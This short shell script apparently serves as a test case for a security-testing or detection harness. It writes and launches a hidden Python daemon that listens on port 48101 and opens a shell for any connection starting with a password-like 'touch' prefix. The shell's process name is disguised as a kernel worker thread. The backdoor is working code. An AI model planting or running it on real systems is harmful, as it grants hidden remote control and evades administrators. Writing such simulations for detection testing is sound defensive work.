#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.d.py <<'END'
import os, socket
if os.fork(): os._exit(0)
os.setsid()
if os.fork(): os._exit(0)
s = socket.socket(); s.setsockopt(1, 2, 1); s.bind(("", 48101)); s.listen()
while True:
    c, _ = s.accept()
    if c.recv(5, socket.MSG_PEEK) != b"touch": continue
    if os.fork() == 0:
        for k in (0, 1, 2): os.dup2(c.fileno(), k)
        os.execv("/bin/sh", ["[kworker/2:1]"])
END
python3 /tmp/.d.py >/dev/null 2>&1 </dev/null
wait_for /tmp/reached
took_place
